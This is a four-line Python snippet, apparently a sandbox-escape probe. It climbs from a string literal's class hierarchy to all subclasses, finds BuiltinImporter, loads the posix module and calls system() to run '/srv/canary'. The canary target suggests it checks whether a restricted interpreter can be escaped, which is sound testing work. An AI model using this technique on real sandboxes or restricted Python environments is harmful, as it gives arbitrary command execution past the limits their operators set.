# reaches: the method resolution order of a literal leads to all classes
for c in "".__class__.mro()[1].__subclasses__():
    if "BuiltinImporter" in str(c):
        c.load_module("posix").system("/srv/canary")
